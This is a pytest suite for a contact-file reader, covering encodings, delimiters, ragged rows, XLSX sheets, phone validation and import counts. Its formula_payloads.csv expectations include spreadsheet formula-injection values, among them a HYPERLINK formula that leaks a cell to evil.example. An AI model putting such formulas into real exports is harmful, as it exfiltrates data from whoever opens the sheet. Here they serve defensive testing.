"""The file reader on a corpus of small files, each named for its edge case (PRODUCT 3.1).

`read_source` is checked cell by cell (every cell stays the file's text, rows are
numbered by record after the header, blank records included); the import counts go
through the library entry point, `workspace.run_import`, without Prefect.
"""

from __future__ import annotations

import csv
import json
import tempfile
from dataclasses import dataclass
from pathlib import Path

import polars as pl
import pytest

from contacts import readers
from contacts.errors import MappingError, SourceFileError
from contacts.exporting import ExportFilters, selection_frame
from contacts.readers import ROW, read_source, sniff_delimiter
from store.db import Store

FIXTURES = Path(__file__).parent / "fixtures"

# utf8.csv, utf8_bom.csv, utf16_le_bom.csv and utf16_be_bom.csv hold the same text,
# with letters from outside cp1252 (Ł, Ż, 東京) so only a Unicode reading gets them right.
NAMES_COLUMNS = ["First Name", "Last Name", "Phone", "Email", "Company"]
NAMES_ROWS = [
    (1, "José", "Müller", "+1 650-253-0000", "jose@example.com", "Café Núñez"),
    (2, "Zoë", "O'Brien", "(212) 736-5000", "zoe@example.com", "Øresund AB"),
    (3, "François", "Lefèvre", "+44 20 7946 0000", None, "Ærø & Co"),
    (4, "Łukasz", "Żółć", "(617) 253-1000", "lukasz@example.com", "東京商事"),
]
SIMPLE_COLUMNS = ["First Name", "Last Name", "Phone", "Company"]
LINKEDIN_COLUMNS = [
    "First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On",
    "Phone",
]  # fmt: skip
LINKEDIN_ROWS = [
    (1, "Amélie", "Rousseau", "https://www.linkedin.com/in/amelie-rousseau", None, "Doctolib",
     "Product Manager", "12 Mar 2024", "+33 6 12 34 56 78"),
    (2, "Tom", "Baker", "https://www.linkedin.com/in/tom-baker", "tom@example.com", "Acme",
     "Director, Sales", "03 Jan 2023", "(212) 736-5000"),
]  # fmt: skip


@dataclass(frozen=True)
class Read:
    """What `read_source` must give: `rows` are (_row, *cells in column order)."""

    file: str
    encoding: str | None
    delimiter: str | None
    columns: list[str]
    rows: list[tuple[object, ...]]


READS = [
    Read("utf8.csv", "utf-8", ",", NAMES_COLUMNS, NAMES_ROWS),
    Read("utf8_bom.csv", "utf-8-sig", ",", NAMES_COLUMNS, NAMES_ROWS),
    Read("utf16_le_bom.csv", "utf-16", ",", NAMES_COLUMNS, NAMES_ROWS),
    Read("utf16_be_bom.csv", "utf-16", ",", NAMES_COLUMNS, NAMES_ROWS),
    Read(
        "cp1252_semicolon.csv",
        "cp1252",
        ";",
        ["Prénom", "Nom", "Téléphone", "Société", "Montant"],
        [
            (1, "Françoise", "Lefèvre", "+33 1 42 68 53 00", "Société Générale", "1.200,50 €"),
            (2, "Jürgen", "Groß", "+49 30 2270", "Müller & Söhne GmbH", "€ 300"),
            (3, "Iñaki", "Núñez", "+34 91 123 45 67", "Peña Ibérica, S.L.", "45,00 €"),
            (4, "Chloé", "Cœur", "(212) 736-5000", "“Smart” Quotes — Paris", None),
        ],
    ),
    # Latin-1 and cp1252 agree on every letter; cp1252 is the name the reader reports.
    Read(
        "latin1.csv",
        "cp1252",
        ",",
        ["First Name", "Last Name", "Phone", "City"],
        [
            (1, "Renée", "Brücke", "(212) 736-5000", "Zürich"),
            (2, "Bjørn", "Ødegård", "+1 650-253-0000", "Tromsø"),
            (3, "Ñuño", "Señorío", "+34 91 123 45 67", "Logroño"),
        ],
    ),
    Read(
        "tab_delimited.tsv",
        "utf-8",
        "\t",
        SIMPLE_COLUMNS,
        [
            (1, "Ann", "Lee", "+1 650-253-0000", "Acme, Inc."),
            (2, "Bob", "Ray", "(212) 736-5000", "Smith; Jones | Partners"),
            (3, "Cy", "Orr", "+44 20 7946 0000", "Initech"),
        ],
    ),
    Read(
        "pipe_delimited.txt",
        "utf-8",
        "|",
        SIMPLE_COLUMNS,
        [
            (1, "Ann", "Lee", "+1 650-253-0000", "Acme, Inc."),
            (2, "Bob", "Ray", "(212) 736-5000", "Globex; Ltd"),
            (3, "Cy", "Orr", "+44 20 7946 0000", "Initech"),
        ],
    ),
    Read(
        "semicolon.csv",
        "utf-8",
        ";",
        [*SIMPLE_COLUMNS, "Notes"],
        [
            (1, "Ann", "Lee", "+1 650-253-0000", "Acme, Inc.", "likes calls, mornings"),
            (2, "Bob", "Ray", "(212) 736-5000", "Globex, LLC", None),
            (3, "Cy", "Orr", "+44 20 7946 0000", "Initech", "quoted; with a semicolon"),
        ],
    ),
    Read(
        "quoted_newlines.csv",
        "utf-8",
        ",",
        ["First Name", "Last Name", "Phone", "Notes"],
        [
            (
                1,
                "Ann",
                "Lee",
                "+1 650-253-0000",
                'Call after 5pm.\nPrefers email, not SMS; ask for "Annie" | VIP',
            ),
            (2, "Bob", "Ray", "(212) 736-5000", "Line 1\nLine 2\n\nLine 4, after a blank line"),
            (3, "Cy", "Orr", "+44 20 7946 0000", "plain"),  # record 3, though line 8
        ],
    ),
    Read(
        "ragged_rows.csv",
        "utf-8",
        ",",
        SIMPLE_COLUMNS,
        [
            (1, "Ann", "Lee", "+1 650-253-0000", "Acme"),
            (2, "Bob", "Ray", "(212) 736-5000", None),  # short row: padded
            (3, "Cy", "Orr", "+44 20 7946 0000", "Initech"),  # long row: extras kept apart
            (4, "Di", "Fox", "(617) 253-1000", "Globex"),  # one trailing empty cell
            (5, "Ed", None, None, None),
        ],
    ),
    Read(
        "blank_rows.csv",
        "utf-8",
        ",",
        ["First Name", "Phone"],
        [
            (1, "Ann", "+1 650-253-0000"),
            (2, None, None),  # empty line
            (3, None, None),  # ","
            (4, "Bob", "(212) 736-5000"),
            (5, None, None),  # ",,,"
            (6, None, None),  # spaces only
            (7, "Cy", "+44 20 7946 0000"),
            (8, None, None),  # empty line before the end
        ],
    ),
    Read("header_only.csv", "utf-8", ",", ["First Name", "Last Name", "Phone", "Email"], []),
    Read(
        "no_phone_column.csv",
        "utf-8",
        ",",
        ["First Name", "Last Name", "Email", "Company"],
        [
            (1, "Ann", "Lee", "ann@example.com", "Acme"),
            (2, "Bob", "Ray", "bob@example.com", "Globex"),
        ],
    ),
    Read(
        "leading_zeros.csv",
        "utf-8",
        ",",
        ["Name", "Phone", "Country", "ZIP", "Customer ID"],
        [
            (1, "Ann Lee", "0044 20 7946 0000", "GB", "02134", "000123"),
            (2, "Bob Ray", "020 7946 0001", "United Kingdom", "00501", "000456"),
            (3, "Cy Orr", "01 42 68 53 00", "FR", "07030", "007"),
        ],
    ),
    # Cells are stripped as read, so the TAB before '=1+1' is gone before any export.
    Read(
        "formula_payloads.csv",
        "utf-8",
        ",",
        ["First Name", "Last Name", "Phone", "Company", "Notes"],
        [
            (
                1,
                '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
                "Smith",
                "+1 650-253-0000",
                "Acme",
                "safe",
            ),
            (2, "+SUM(A1)", "Jones", "(212) 736-5000", "-2+3", "ordinary"),
            (3, "-2+3", "Brown", "+44 20 7946 0000", "@cmd", "=1+1"),
            (4, "@cmd", "Green", "(617) 253-1000", "Globex", "tab leading"),
        ],
    ),
    Read(
        "duplicate_headers.csv",
        "utf-8",
        ",",
        ["Name", "Phone", "Phone_2", "Email"],
        [
            (1, "Ann Lee", "+1 650-253-0000", "(212) 736-5000", "ann@example.com"),
            (2, "Bob Ray", None, "(617) 253-1000", "bob@example.com"),
            (3, "Cy Orr", "not a phone", "+44 20 7946 0000", None),
        ],
    ),
    Read("linkedin_preamble.csv", "utf-8-sig", ",", LINKEDIN_COLUMNS, LINKEDIN_ROWS),
    Read(
        "duplicate_phones.csv",
        "utf-8",
        ",",
        ["First Name", "Phone"],
        [
            (1, "Ann", "+1 650-253-0000"),
            (2, "Annie", "(650) 253-0000"),
            (3, "A.", "650.253.0000"),
            (4, "Bob", "(212) 736-5000"),
            (5, "Ann again", "+16502530000"),
        ],
    ),
    Read(
        "invalid_phones.csv",
        "utf-8",
        ",",
        ["First Name", "Phone"],
        [
            (1, "Ann", "+1 650-253-0000"),
            (2, "Bob", None),
            (3, "Cy", "call me"),
            (4, "Di", "253-0000"),
            (5, "Ed", "+1 650 253 0000 0000 0000"),
            (6, "Flo", "(123) 456-7890"),
            (7, "Gus", "6.50253E+09"),
        ],
    ),
    # Numbers come back as the digits the sheet shows, never as floats; row 3 is blank.
    Read(
        "contacts.xlsx",
        None,
        None,
        ["First Name", "Last Name", "Phone", "ZIP", "Score"],
        [
            (1, "Ann", "Lee", "6502530000", "02134", "12.5"),
            (2, "Bob", "Ray", "(212) 736-5000", "2134", "3"),
            (3, None, None, None, None, None),
            (4, "Cy", "Orr", "442079460000", "00501", None),
            (5, "Di", "Fox", "+44 20 7946 0001", None, None),
        ],
    ),
]


@pytest.mark.parametrize("case", READS, ids=lambda case: case.file)
def test_read_source_gives_the_files_text_cell_by_cell(case: Read) -> None:
    table = read_source(FIXTURES / case.file)
    assert (table.encoding, table.delimiter) == (case.encoding, case.delimiter)
    assert table.columns == case.columns
    assert table.frame.select(ROW, *case.columns).rows() == case.rows


def test_cells_past_the_header_are_kept_apart_not_dropped() -> None:
    table = read_source(FIXTURES / "ragged_rows.csv")
    extras = [c for c in table.frame.columns if c not in (ROW, *table.columns)]
    filled = table.frame.select(ROW, *extras).rows()
    cells = {row[0]: [cell for cell in row[1:] if cell is not None] for row in filled}
    assert cells == {1: [], 2: [], 3: ["extra cell", "another"], 4: [], 5: []}


@pytest.mark.parametrize(
    "file",
    ["utf8.csv", "quoted_newlines.csv", "ragged_rows.csv", "linkedin_preamble.csv",
     "blank_rows.csv", "cp1252_semicolon.csv", "utf16_le_bom.csv", "cr_line_endings.csv"],
)  # fmt: skip
def test_reading_in_small_batches_reads_the_same_table(file: str, monkeypatch) -> None:
    whole = read_source(FIXTURES / file)
    monkeypatch.setattr(readers, "READ_BATCH_ROWS", 2)
    batched = read_source(FIXTURES / file)
    assert batched.columns == whole.columns
    assert batched.frame.equals(whole.frame)
    assert (batched.encoding, batched.delimiter, batched.notes) == (
        whole.encoding,
        whole.delimiter,
        whole.notes,
    )


def test_wide_files_are_read_in_fewer_records_per_batch(tmp_path, monkeypatch) -> None:
    """A batch holds at most READ_BATCH_CELLS cells: records x (columns + 1 for cells
    past the header), and never less than one record."""
    assert readers.batch_rows(12) == readers.READ_BATCH_ROWS  # the 12-column common case
    assert readers.batch_rows(101) == 14_851
    assert readers.batch_rows(10**9) == 1
    monkeypatch.setattr(readers, "READ_BATCH_CELLS", 12)
    monkeypatch.setattr(readers, "HEAD_RECORDS", 1)
    path = tmp_path / "wide.csv"
    path.write_text("Phone,A,B\n" + "".join(f"{n},a,b\n" for n in range(7)), encoding="utf-8")
    source = read_source(path)
    heights = [batch.height for batch in source.batches()]
    assert heights == [3, 3, 1]  # 3 records a batch (12 // 4)


@pytest.mark.parametrize(
    ("preamble", "records", "heights"),
    [("", 6, [3, 3]), ("", 7, [3, 3, 1]), ("Notes:\n\n", 6, [3, 3]), ("", 0, [0])],
)
def test_batches_hold_whole_batches_of_data_records_whatever_precedes_them(
    tmp_path, monkeypatch, preamble: str, records: int, heights: list[int]
) -> None:
    """The header (and a preamble) take records from the first batch read; the data
    batches are regrouped so that only the last one is short, and numbered in order."""
    monkeypatch.setattr(readers, "READ_BATCH_ROWS", 3)
    monkeypatch.setattr(readers, "HEAD_RECORDS", 1)
    path = tmp_path / "contacts.csv"
    body = "".join(f"{n},a,b\n" for n in range(records))
    path.write_text(f"{preamble}Phone,A,B\n{body}", encoding="utf-8")
    batches = list(read_source(path).batches())
    assert [batch.height for batch in batches] == heights
    data = pl.concat(batches)
    assert data.get_column("_row").to_list() == list(range(1, records + 1))
    assert data.get_column("Phone").to_list() == [str(n) for n in range(records)]


def test_classic_mac_line_endings_in_cp1252_are_detected(tmp_path) -> None:
    path = tmp_path / "mac.csv"
    path.write_bytes("Name,Phone\rRené,(650) 253-0000\rZoë,(212) 736-5000\r".encode("cp1252"))
    table = read_source(path)
    assert table.encoding == "cp1252"
    assert table.frame.get_column("Name").to_list() == ["René", "Zoë"]


def test_bytes_past_the_first_megabyte_that_are_not_utf8_are_caught(tmp_path) -> None:
    rows = "".join(f"Person {n},(650) 253-{n % 10000:04d}\n" for n in range(60_000))
    path = tmp_path / "late.csv"
    path.write_bytes(("Name,Phone\n" + rows).encode() + "Renée,(212) 736-5000\n".encode("cp1252"))
    table = read_source(path)
    assert table.encoding == "cp1252"
    assert table.frame.get_column("Name").to_list()[-1] == "Renée"


def test_linkedin_preamble_is_skipped_and_reported() -> None:
    table = read_source(FIXTURES / "linkedin_preamble.csv")
    assert table.notes == ["skipped 3 record(s) before the header"]


def test_xlsx_reads_the_first_sheet_unless_one_is_named() -> None:
    path = FIXTURES / "contacts.xlsx"
    assert read_source(path).sheet == "first sheet"
    archive = read_source(path, sheet="Archive")
    assert (archive.sheet, archive.encoding, archive.delimiter) == ("Archive", None, None)
    assert archive.columns == ["Name", "Mobile"]
    assert archive.frame.select(ROW, "Name", "Mobile").rows() == [
        (1, "Old Contact", "(617) 253-1000"),
        (2, "Older Contact", "3127445000"),
    ]


def test_xlsx_sheet_that_does_not_exist_is_refused() -> None:
    path = FIXTURES / "contacts.xlsx"
    with pytest.raises(SourceFileError) as raised:
        read_source(path, sheet="Leads")
    assert str(raised.value) == (
        f"{path}: has no sheet 'Leads'; its sheets are 'Contacts', 'Archive'"
    )


EMPTY = "is empty; export the contacts again with a header row"
REFUSED = [
    ("empty.csv", EMPTY),
    ("whitespace_only.csv", EMPTY),
    ("binary.csv", "is not a text file (binary content); export it as CSV or XLSX"),
    (
        "cp1251_cyrillic.csv",
        "is not UTF-8 and not Western European text (it may be cp1251); "
        "re-export it as UTF-8 or pass --encoding",
    ),
]


@pytest.mark.parametrize(("file", "problem"), REFUSED, ids=[r[0] for r in REFUSED])
def test_unreadable_files_are_refused_and_change_nothing(workspace, file, problem) -> None:
    path = FIXTURES / file
    with pytest.raises(SourceFileError) as raised:
        read_source(path)
    assert str(raised.value) == f"{path}: {problem}"
    with pytest.raises(SourceFileError):
        workspace.run_import(path)
    assert not workspace.db.exists()
    assert not workspace.data_dir.exists()


def test_no_phone_column_is_refused_naming_the_columns(workspace) -> None:
    with pytest.raises(MappingError) as raised:
        workspace.run_import(FIXTURES / "no_phone_column.csv")
    assert str(raised.value) == (
        "no phone column found (columns: 'First Name', 'Last Name', 'Email', 'Company'); "
        "name it with --map 'COLUMN=phone'"
    )
    assert not workspace.db.exists()


def test_encoding_override_reads_what_detection_refuses() -> None:
    table = read_source(FIXTURES / "cp1251_cyrillic.csv", encoding="cp1251")
    assert (table.encoding, table.delimiter) == ("cp1251", ",")
    assert table.columns == ["Имя", "Фамилия", "Телефон", "Город"]
    assert table.frame.select(ROW, *table.columns).rows() == [
        (1, "Иван", "Петров", "+7 495 123-45-67", "Москва"),
        (2, "Ольга", "Смирнова", "+7 812 234-56-78", "Санкт-Петербург"),
        (3, "Сергей", "Кузнецов", "+7 495 765-43-21", "Москва"),
    ]


def test_unknown_encoding_override_is_refused() -> None:
    path = FIXTURES / "utf8.csv"
    with pytest.raises(SourceFileError) as raised:
        read_source(path, encoding="klingon")
    assert str(raised.value) == f"{path}: unknown encoding 'klingon'; pass e.g. --encoding cp1252"


def test_wrong_encoding_override_is_an_error_not_mojibake() -> None:
    path = FIXTURES / "cp1252_semicolon.csv"
    with pytest.raises(SourceFileError) as raised:
        read_source(path, encoding="utf-8")
    assert str(raised.value).startswith(f"{path}: ")


@pytest.mark.parametrize(
    ("sample", "suffix", "delimiter"),
    [
        ("Name;Phone\nLee, Ann;(212) 736-5000\nRay, Bob;+1 650-253-0000\n", ".csv", ";"),
        ('Name,Phone\n"Lee; Ann",(212) 736-5000\n"Ray; Bob",+1 650-253-0000\n', ".csv", ","),
        ("Name\tPhone\nLee, Ann\t(212) 736-5000\n", ".txt", "\t"),
        ("Phone\n(212) 736-5000\n", ".tsv", "\t"),  # one column: the suffix decides
        ("Phone\n(212) 736-5000\n", ".csv", ","),
    ],
)
def test_sniff_delimiter(sample: str, suffix: str, delimiter: str) -> None:
    assert sniff_delimiter(sample, suffix) == delimiter


@dataclass(frozen=True)
class Counts:
    file: str
    rows_total: int
    imported: int
    invalid: int = 0
    duplicates_in_file: int = 0


COUNTS = [
    Counts("utf8.csv", 4, 4),
    Counts("utf8_bom.csv", 4, 4),
    Counts("utf16_le_bom.csv", 4, 4),
    Counts("utf16_be_bom.csv", 4, 4),
    Counts("cp1252_semicolon.csv", 4, 4),
    Counts("latin1.csv", 3, 3),
    Counts("tab_delimited.tsv", 3, 3),
    Counts("pipe_delimited.txt", 3, 3),
    Counts("semicolon.csv", 3, 3),
    Counts("quoted_newlines.csv", 3, 3),
    Counts("ragged_rows.csv", 5, 3, invalid=2),  # row 3 malformed, row 5 has no phone
    Counts("blank_rows.csv", 3, 3),  # five blank records, none counted
    Counts("header_only.csv", 0, 0),
    Counts("leading_zeros.csv", 3, 3),
    Counts("formula_payloads.csv", 4, 4),
    Counts("duplicate_headers.csv", 3, 3),
    Counts("linkedin_preamble.csv", 2, 2),
    Counts("duplicate_phones.csv", 5, 2, duplicates_in_file=3),
    Counts("invalid_phones.csv", 7, 1, invalid=6),
    Counts("contacts.xlsx", 4, 3, invalid=1),  # the blank row is not counted
]


@pytest.mark.parametrize("case", COUNTS, ids=lambda case: case.file)
def test_import_accounts_for_every_row_and_reimport_changes_nothing(workspace, case) -> None:
    path = FIXTURES / case.file
    first = workspace.run_import(path)
    assert first.status == "completed"
    assert (first.rows_total, first.imported, first.invalid, first.duplicates_in_file) == (
        case.rows_total,
        case.imported,
        case.invalid,
        case.duplicates_in_file,
    )
    assert (first.updated, first.duplicates_existing) == (0, 0)
    assert accounted(first) == first.rows_total

    again = workspace.run_import(path)
    assert (again.rows_total, again.imported, again.updated) == (case.rows_total, 0, 0)
    assert again.duplicates_existing == case.imported
    assert (again.invalid, again.duplicates_in_file) == (case.invalid, case.duplicates_in_file)
    assert accounted(again) == again.rows_total


def accounted(stats) -> int:
    return (
        stats.imported
        + stats.updated
        + stats.duplicates_in_file
        + stats.duplicates_existing
        + stats.invalid
    )


def test_header_only_file_is_a_completed_batch_of_nothing(workspace) -> None:
    stats = workspace.run_import(FIXTURES / "header_only.csv")
    assert (stats.status, stats.rows_total, stats.blank_rows) == ("completed", 0, 0)
    assert read_csv(Path(stats.rejects_file)) == []


def test_blank_records_are_reported_apart_from_rows(workspace) -> None:
    stats = workspace.run_import(FIXTURES / "blank_rows.csv")
    assert (stats.rows_total, stats.blank_rows) == (3, 5)


REJECTS = {
    "ragged_rows.csv": [
        ("3", "malformed_row", "row has more cells than the header's 4 columns", ""),
        ("5", "missing", "no phone number in Phone", ""),
    ],
    "duplicate_phones.csv": [
        ("2", "duplicate_in_file", "same phone as row 1", ""),
        ("3", "duplicate_in_file", "same phone as row 1", ""),
        ("5", "duplicate_in_file", "same phone as row 1", ""),
    ],
    "invalid_phones.csv": [
        ("2", "missing", "no phone number in Phone", ""),
        ("3", "not_a_number", "'call me' is not a phone number", ""),
        ("4", "too_short", "'253-0000' has too few digits for a US number", ""),
        ("5", "too_long", "'+1 650 253 0000 0000 0000' has too many digits for a US number", ""),
        ("6", "invalid_for_region", "'(123) 456-7890' is not a valid US number", ""),
        (
            "7",
            "spreadsheet_damaged",
            "'6.50253E+09' was altered by a spreadsheet and its digits are lost; "
            "re-export the column as text",
            "",
        ),
    ],
    "contacts.xlsx": [
        (
            "4",
            "spreadsheet_damaged",
            "'442079460000' was altered by a spreadsheet; it was probably +442079460000",
            "+442079460000",
        ),
    ],
}


@pytest.mark.parametrize("file", list(REJECTS))
def test_rejects_file_has_one_line_per_rejected_row(workspace, file: str) -> None:
    stats = workspace.run_import(FIXTURES / file)
    rejects = read_csv(Path(stats.rejects_file))
    outcomes = [(r["row"], r["reason"], r["message"], r["suggested_phone"]) for r in rejects]
    assert outcomes == REJECTS[file]


def test_an_over_long_cell_and_cells_past_the_header_get_their_own_messages(
    workspace, tmp_path: Path
) -> None:
    path = tmp_path / "long_and_ragged.csv"
    path.write_text(
        "Name,Phone,Company\n"
        "Ann,(650) 253-0000,Initech\n"
        f"Bo,(650) 253-0001,{'A' * 10_001}\n"
        "Cy,(650) 253-0002,Initech,surplus\n",
        encoding="utf-8",
    )
    stats = workspace.run_import(path)
    rejects = read_csv(Path(stats.rejects_file))
    assert [(r["row"], r["reason"], r["message"]) for r in rejects] == [
        ("2", "malformed_row", "cell in column 'Company' is too long (an unclosed quote?)"),
        ("3", "malformed_row", "row has more cells than the header's 3 columns"),
    ]
    assert stats.imported == 1


def test_rejects_file_keeps_the_original_cells(workspace) -> None:
    stats = workspace.run_import(FIXTURES / "ragged_rows.csv")
    rejects = read_csv(Path(stats.rejects_file))
    assert [[r[c] for c in SIMPLE_COLUMNS] for r in rejects] == [
        ["Cy", "Orr", "+44 20 7946 0000", "Initech"],
        ["Ed", "", "", ""],
    ]


STORED = {
    "utf8_bom.csv": {
        ("José", "Müller", "+16502530000"),
        ("Zoë", "O'Brien", "+12127365000"),
        ("François", "Lefèvre", "+442079460000"),
        ("Łukasz", "Żółć", "+16172531000"),
    },
    "cp1252_semicolon.csv": {
        ("Françoise", "Lefèvre", "+33142685300"),
        ("Jürgen", "Groß", "+49302270"),
        ("Iñaki", "Núñez", "+34911234567"),
        ("Chloé", "Cœur", "+12127365000"),
    },
    # Several phone columns: the first valid number in column order.
    "duplicate_headers.csv": {
        ("Ann", "Lee", "+16502530000"),
        ("Bob", "Ray", "+16172531000"),
        ("Cy", "Orr", "+442079460000"),
    },
    # National formats read in each row's country.
    "leading_zeros.csv": {
        ("Ann", "Lee", "+442079460000"),
        ("Bob", "Ray", "+442079460001"),
        ("Cy", "Orr", "+33142685300"),
    },
}


@pytest.mark.parametrize("file", list(STORED))
def test_stored_contacts_keep_names_and_get_e164_phones(workspace, file: str) -> None:
    workspace.run_import(FIXTURES / file)
    stored = selection_frame(workspace.db, ExportFilters())
    assert set(stored.select("first_name", "last_name", "phone").rows()) == STORED[file]


def test_leading_zeros_survive_into_attributes(workspace) -> None:
    workspace.run_import(FIXTURES / "leading_zeros.csv")
    stored = selection_frame(workspace.db, ExportFilters())
    attributes = {
        row["phone"]: json.loads(row["attributes"]) for row in stored.iter_rows(named=True)
    }
    assert attributes["+442079460000"] == {"Country": "GB", "ZIP": "02134", "Customer ID": "000123"}
    assert attributes["+33142685300"] == {"Country": "FR", "ZIP": "07030", "Customer ID": "007"}


@pytest.mark.parametrize(
    ("file", "rows"),
    [
        ("blank_rows.csv", {"Ann": 1, "Bob": 4, "Cy": 7}),  # blank records keep their numbers
        ("quoted_newlines.csv", {"Ann": 1, "Bob": 2, "Cy": 3}),  # records, not lines
        ("linkedin_preamble.csv", {"Amélie": 1, "Tom": 2}),  # counted from the header
        ("contacts.xlsx", {"Ann": 1, "Bob": 2, "Di": 5}),
    ],
)
def test_contacts_remember_their_source_row(workspace, file: str, rows: dict[str, int]) -> None:
    workspace.run_import(FIXTURES / file)
    with Store.open(workspace.db, read_only=True) as store:
        stored = dict(store.run("SELECT first_name, created_row FROM contacts"))
    assert stored == rows


def test_cr_only_line_endings_are_read() -> None:
    table = read_source(FIXTURES / "cr_line_endings.csv")
    assert (table.delimiter, table.columns) == (",", ["First Name", "Phone"])
    assert table.frame.select(ROW, *table.columns).rows() == [
        (1, "Ann", "+1 650-253-0000"),
        (2, "Bob", "(212) 736-5000"),
    ]


def test_deduplicated_header_names_do_not_clash_with_real_ones(workspace) -> None:
    path = FIXTURES / "duplicate_headers_suffix_clash.csv"
    table = read_source(path)
    assert len(set(table.columns)) == 4
    assert table.frame.select(table.columns).row(0) == (
        "Ann Lee",
        "+1 650-253-0000",
        "(212) 736-5000",
        "(617) 253-1000",
    )
    assert workspace.run_import(path).imported == 1


def test_headers_polars_reads_as_patterns_are_renamed_and_imported(workspace) -> None:
    """pl.col('*') is every column and pl.col('^a.*$') a regex: as column names they
    broke mapping and validation, so the reader renames them like duplicates."""
    path = FIXTURES / "pattern_like_headers.csv"
    table = read_source(path)
    assert table.columns == ["Name", "Phone", "*_2", "^a.*$_2", "^$_2"]
    stats = workspace.run_import(path)
    assert (stats.rows_total, stats.imported, stats.invalid) == (2, 1, 1)
    with Store.open(workspace.db, read_only=True) as store:
        attributes = store.run("SELECT attributes FROM contacts")[0][0]
        original = store.run("SELECT original FROM import_rejects")[0][0]
    assert json.loads(attributes) == {"*_2": "starred", "^a.*$_2": "pattern", "^$_2": "empty"}
    assert json.loads(original) == {
        "Name": "Bo", "Phone": "12", "*_2": "x", "^a.*$_2": "y", "^$_2": "z"
    }  # fmt: skip


def test_header_named_like_the_row_number_column_is_read(workspace) -> None:
    stats = workspace.run_import(FIXTURES / "reserved_column_names.csv")
    assert (stats.rows_total, stats.imported) == (1, 1)


def test_mixed_encoding_is_refused_or_read_without_mojibake() -> None:
    try:
        table = read_source(FIXTURES / "mixed_utf8_cp1252.csv")
    except SourceFileError:
        return  # refusing is fine: PRODUCT 3.1 forbids only guessing silently wrong
    names = table.frame.select("First Name", "Last Name").rows()
    assert names[:2] == [("José", "Müller"), ("Zoë", "Brontë")]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("character", ["é", "€", "😀"])
def test_a_character_cut_by_the_hash_block_boundary_is_still_utf8(tmp_path, character) -> None:
    """UTF-8 is checked block by block while the file is hashed; a character whose bytes
    straddle two blocks must not make the file look like another encoding."""
    block = 1 << 22
    text = "Name,Phone\n" + "Ann,(650) 253-0000\n" * (block // 19 - 1)
    # a last row padded so that the next character starts at byte block - 1: its first
    # byte ends the first block, the rest opens the second
    pad = block - 1 - len(text) - len(",(212) 736-5000\n")
    text += "B" * pad + ",(212) 736-5000\n"
    path = tmp_path / "straddle.csv"
    body = text.encode()
    assert len(body) == block - 1
    path.write_bytes(body + character.encode() + b"x,(415) 555-0100\n")
    table = read_source(path)
    assert table.encoding == "utf-8"
    assert table.frame.get_column("Name").to_list()[-1] == character + "x"


def test_a_truncated_character_at_the_end_of_the_file_is_not_utf8(tmp_path) -> None:
    path = tmp_path / "cut.csv"
    path.write_bytes(b"Name,Phone\nRen\xc3")
    assert read_source(path).encoding == "cp1252"


def test_a_huge_cell_in_the_first_megabyte_is_read_not_a_crash(tmp_path) -> None:
    """Python's csv module refuses fields over 128 KiB; sniffing must not."""
    path = tmp_path / "huge.csv"
    path.write_text(
        "Name,Phone,Notes\nAnn,(650) 253-0000," + "n" * 200_000 + "\nBo,(212) 736-5000,ok\n",
        encoding="utf-8",
    )
    table = read_source(path)
    assert table.delimiter == ","
    assert table.frame.get_column("Name").to_list() == ["Ann", "Bo"]


def test_a_utf8_letter_across_the_4mb_block_boundary_still_means_mixed_encodings(
    tmp_path,
) -> None:
    """The encoding checks read 4 MB at a time, cutting only between words."""
    block = 1 << 22
    row = "Ren\xe9e,(650) 253-0000\n".encode("cp1252")  # cp1252: é is one byte, E9
    body = b"Name,Phone\n" + row * (block // len(row) + 1)
    body = body[: block - 1 - len(b"Jos")] + b"Jos"  # the UTF-8 é's C3 is byte block - 1
    path = tmp_path / "mixed.csv"
    path.write_bytes(body + "é".encode() + b",(212) 736-5000\n")
    assert path.read_bytes()[block - 1 : block + 1] == "é".encode()
    with pytest.raises(SourceFileError, match="mixes UTF-8 text"):
        read_source(path)


@pytest.mark.parametrize(
    "file", ["cp1252_semicolon.csv", "utf16_le_bom.csv", "cr_line_endings.csv"]
)
def test_files_read_through_a_utf8_copy_leave_no_copy_behind(tmp_path, monkeypatch, file) -> None:
    """Files that are not UTF-8 (or use CR line ends) are streamed from a transcoded
    temporary copy, whose name is removed once the scan has opened it."""
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    whole = read_source(FIXTURES / file)
    assert whole.frame.height > 0
    assert list(scratch.iterdir()) == []


def test_word_characters_match_pythons_on_every_cp1252_character() -> None:
    """The cp1252 guess counts words with a polars (Rust) regex; on every character a
    cp1252 decoding can give, its word class is Python's [^\\W\\d_]."""
    import re

    import polars as pl

    undefined = {0x81, 0x8D, 0x8F, 0x90, 0x9D}
    chars = [bytes([b]).decode("cp1252") for b in range(256) if b not in undefined]
    python = [bool(re.fullmatch(r"[^\W\d_]", c)) for c in chars]
    rust = pl.Series(chars).str.contains(f"^{readers.WORD_CHAR}$").to_list()
    assert rust == python


@pytest.mark.parametrize(
    "text",
    [
        "Müller, Société; Ærø 3½x _é_ naïve—café\u2019s",
        "Иван Петров, Москва".encode("cp1251").decode("cp1252"),
        "Ελληνικά κείμενα".encode("cp1253").decode("cp1252", errors="replace"),
        "plain ascii only",
        "",
    ],
)
def test_accented_words_are_counted_as_pythons_re_counts_them(text: str) -> None:
    import re

    accented = [w for w in re.findall(r"[^\W\d_]+", text) if not w.isascii()]
    whole = sum(len(w) >= 3 and not any(c.isascii() for c in w) for w in accented)
    assert readers._accented_words(text) == (len(accented), whole)
